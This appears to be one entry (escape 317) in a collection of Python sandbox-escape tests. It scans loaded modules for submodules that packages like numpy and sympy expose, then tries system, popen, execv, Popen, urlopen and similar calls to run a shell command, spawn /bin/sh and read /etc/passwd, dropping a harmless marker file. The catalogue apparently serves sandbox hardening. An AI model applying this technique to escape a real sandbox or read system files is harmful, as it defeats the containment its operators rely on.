# escape: 317
# packages: numpy, sympy, networkx, jinja2
# technique: modules that packages hold by name
# family: alias
# goal: run-command
# first-seen: numpy.os, sympy...importtools.sys, six.moves
import sys
seen = set()
def go(f):
    try: f()
    except BaseException: pass
for module in list(sys.modules.values()):
    for name, value in list(getattr(module, "__dict__", {}).items()):
        if type(value) is not type(sys) or id(value) in seen: continue
        seen.add(id(value))
        for call in ("system", "popen", "execv", "open", "fork", "Popen", "urlopen", "dlopen", "CDLL", "mmap"):
            f = getattr(value, call, None)
            if f is None: continue
            go(lambda: f("echo > /tmp/escape-317"))
            go(lambda: f("echo > /tmp/escape-317", shell=True))
            go(lambda: f("/tmp/escape-317", "w"))
            go(lambda: f("/bin/sh", ["sh", "-c", "echo > /tmp/escape-317"]))
            go(lambda: f("file:///etc/passwd") and print("ESCAPED:url"))
